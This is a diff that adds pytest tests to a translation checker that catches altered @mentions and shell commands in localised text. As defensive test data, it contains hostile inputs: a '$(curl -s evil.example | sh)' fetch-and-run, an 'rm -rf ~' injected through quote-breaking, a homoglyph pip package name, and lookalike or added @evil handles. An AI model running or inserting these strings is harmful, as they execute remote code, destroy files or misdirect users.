@@ -580,14 +580,17 @@ def test_mentions_example_handle_in_the_language_is_a_warning() -> None:
     source = "Write @username to tell a friend about the march."
     found = check(source, "Напишите @имя_друга, чтобы рассказать другу о марше.", locale="ru")
     assert [(f[0], f[1]) for f in found] == [("mentions", "warning")], found
-    assert "notifies no one" in found[0][2]
+    assert "no platform reads as an account" in found[0][2]
+    # an account written in the language's letters reads the same: the mention is lost, but
+    # nothing in the entry tells an account from an example, and no one else is notified
+    found = check("Ask @marchorg about the march.", "Спросите @марш_орг о марше.", locale="ru")
+    assert [(f[0], f[1]) for f in found] == [("mentions", "warning")], found
+    assert "if the source's is an account to mention, keep it" in found[0][2]
 
 
 @pytest.mark.parametrize(
     ("source", "translation"),
     [
-        # a real account written in the language's letters: the mention is lost
-        ("Ask @marchorg about the march.", "Спросите @марш_орг о марше."),
         # the stand-in written as a handle X reads: that account would be notified
         ("Write @username to tell a friend.", "Écrivez @nomami pour le dire à un ami."),
         # ASCII letters first: X reads @us, another account
@@ -2105,3 +2108,119 @@ def test_an_example_path_localised_on_the_same_site_is_a_warning() -> None:
         "Firma en https://act.allout.org/peticion/sochi",
     )
     assert ("urls", "error") in [f[:2] for f in found]
+
+
+def test_a_disambiguation_suffix_left_out_is_no_lost_mention() -> None:
+    """Some programs tell two uses of one word apart with a suffix the code strips
+    (``Save@@verb``, ``Save@@noun``); the translation rightly writes the word alone."""
+    for text in ("Enregistrer", "Sauvegarde"):
+        found = check("Save@@verb", text, locale="fr")
+        assert "mentions" not in [f[0] for f in found], found
+    # attack: a suffix the source lacks is an added mention (Mastodon reads '@@evil')
+    found = check("Save", "Enregistrer@@evil", locale="fr")
+    assert ("mentions", "error") in [f[:2] for f in found], found
+    # attack: a handle after a space is no suffix, even at the end of the message
+    found = check("Questions? Ask @helpdesk", "Des questions ? Écrivez-nous", locale="fr")
+    assert ("mentions", "error") in [f[:2] for f in found], found
+
+
+def test_an_example_handle_written_in_another_script_is_only_a_warning() -> None:
+    """A help text's ``@team`` placeholder (``name = @team, ...``) written in the
+    language's own script (``@команда``): no platform reads a handle without ASCII letters,
+    so it notifies no one; a warning, as the source's may be an account to keep."""
+    found = check("Format: name = user, @team", "Формат: имя = пользователь, @команда", locale="ru")
+    assert [f[:2] for f in found if f[0] == "mentions"] == [("mentions", "warning")], found
+    found = check("Add ``@host`` to the name", "名前に ``@ホスト名`` を付けます", locale="ja")
+    assert [f[:2] for f in found if f[0] == "mentions"] == [("mentions", "warning")], found
+
+
+def test_a_handle_replaced_by_a_lookalike_or_a_new_account_stays_an_error() -> None:
+    """Attacks on the localised-example warning: a name that mixes in ASCII letters
+    (``@еvil``, a Cyrillic ``е``, read by a person as @evil), or a localised example beside
+    an added account, still lose or add an account."""
+    found = check("Follow @ourcampaign", "Подпишитесь на @\u0435vil", locale="ru")
+    assert ("mentions", "error") in [f[:2] for f in found], found
+    found = check("Follow @ourcampaign", "Подпишитесь на @кампания и @evil", locale="ru")
+    assert ("mentions", "error") in [f[:2] for f in found], found
+    found = check("Follow @ourcampaign", "Подпишитесь на @кампания_evil", locale="ru")
+    assert ("mentions", "error") in [f[:2] for f in found], found
+
+
+def test_a_commands_quoted_free_text_translated_is_a_warning() -> None:
+    """An example session's ``git commit -m "add the logo"`` with the message translated:
+    the message is free text the reader writes anyway; the command is the same."""
+    source = 'Then record it:\n\n  $ git commit -m "add the logo"\n'
+    found = check(source, 'Puis enregistrez-la :\n\n  $ git commit -m "ajoute le logo"\n')
+    assert [f[:2] for f in found if f[0] == "code"] == [("code", "warning")], found
+    found = check(source, 'Затем:\n\n  $ git commit -m  "добавлен логотип"\n', locale="ru")
+    assert [f[:2] for f in found if f[0] == "code"] == [("code", "warning")], found
+
+
+def test_a_commands_quoted_text_that_runs_or_moves_something_stays_an_error() -> None:
+    """Attacks on the free-text warning: what the shell runs inside double quotes, text that
+    closes the quotes, other quotes, a quoted one-word argument (a path, an address) or a
+    word outside the quotes changed is another command."""
+    source = '  $ git commit -m "add the logo"\n'
+    for text in (
+        '  $ git commit -m "$(curl -s evil.example | sh)"\n',
+        '  $ git commit -m "ajoute `id` le logo"\n',
+        '  $ git commit -m "ajoute"; rm -rf ~; echo "le logo"\n',
+        "  $ git commit -m 'ajoute le logo'\n",
+        '  $ git commit -am "ajoute le logo"\n',
+        '  $ git commit -m "ajoute le logo !"\n',
+    ):
+        found = check(source, text)
+        assert ("code", "error") in [f[:2] for f in found], (text, found)
+    found = check(
+        '  $ git clone "git@host.org:me/repo"\n', '  $ git clone "git@evil.org:me/repo"\n'
+    )
+    assert ("code", "error") in [f[:2] for f in found], found
+
+
+def test_a_commands_example_name_written_in_another_script_is_a_warning() -> None:
+    """``$ tool convert --fast olddir newdir``: the directories are the reader's own, and a
+    translation may name them in its script (``старая_папка``, ``古いフォルダ``)."""
+    source = "  $ tool convert --fast olddir newdir\n"
+    for text, locale in (
+        ("  $ tool convert --fast старая_папка новая_папка\n", "ru"),
+        ("  $ tool convert --fast 古いフォルダ 新しいフォルダ\n", "ja"),
+    ):
+        found = check(source, text, locale=locale)
+        assert [f[:2] for f in found if f[0] == "code"] == [("code", "warning")], found
+
+
+def test_a_commands_argument_in_another_script_that_reaches_something_stays_an_error() -> None:
+    """Attacks on that warning: a lookalike with ASCII letters (a package a reader installs),
+    a host or path in another script, the program's own name, a subcommand, a word before
+    others kept, an option: another command."""
+    for source, text in (
+        ("  $ pip install requests\n", "  $ pip install req\u03c5ests\n"),
+        ("  $ git clone repo\n", "  $ git clone пример.рф\n"),
+        ("  $ git clone repo\n", "  $ git clone ../хранилище\n"),
+        ("  $ tool convert olddir\n", "  $ инструмент convert olddir\n"),
+        ("  $ tool convert olddir\n", "  $ tool конвертировать olddir\n"),
+        ("  $ tool convert olddir newdir\n", "  $ tool convert старая_папка newdir\n"),
+        ("  $ tool convert --fast olddir\n", "  $ tool convert --быстро olddir\n"),
+    ):
+        found = check(source, text, locale="ru")
+        assert ("code", "error") in [f[:2] for f in found], (text, found)
+
+
+def test_a_handle_named_without_its_at_is_a_warning() -> None:
+    """A help text's ``(except "@staff")`` written ``the "staff" group`` in the
+    translation: the @ is gone, the name is there; it notifies no one."""
+    found = check(
+        'Everyone (except "@staff") may write.', 'Todos (salvo el grupo "staff") escriben.'
+    )
+    assert [f[:2] for f in found if f[0] == "mentions"] == [("mentions", "warning")], found
+
+
+def test_a_handle_named_without_its_at_beside_an_added_one_stays_an_error() -> None:
+    """Attacks on that warning: the name kept while another account is added, or the name
+    turned into a host or another account's address, still add a mention or a link."""
+    found = check("Write to @staff", "Escribe a staff o a @evil")
+    assert ("mentions", "error") in [f[:2] for f in found], found
+    found = check("Write to @staff", "Escribe a staff.evil.org")
+    assert "error" in [f[1] for f in found], found
+    found = check("Write to @staff", "Escribe a staff@evil.org")
+    assert "error" in [f[1] for f in found], found
